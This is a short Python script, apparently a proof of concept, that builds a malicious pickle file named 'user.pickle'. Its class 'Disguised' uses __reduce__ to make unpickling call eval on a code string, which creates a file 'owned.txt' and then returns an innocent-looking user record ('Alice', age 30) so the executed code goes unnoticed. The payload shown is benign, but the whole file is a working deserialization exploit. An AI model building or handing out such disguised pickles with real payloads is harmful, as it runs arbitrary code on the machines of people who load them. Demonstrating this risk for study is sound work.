import pickle
from pathlib import Path

CODE = """(
    __import__("pathlib").Path("owned.txt").touch(),
    {"name": "Alice", "age": 30},
)[1]"""


class Disguised:
    def __reduce__(self):
        return eval, (CODE,)


Path("user.pickle").write_bytes(pickle.dumps(Disguised()))
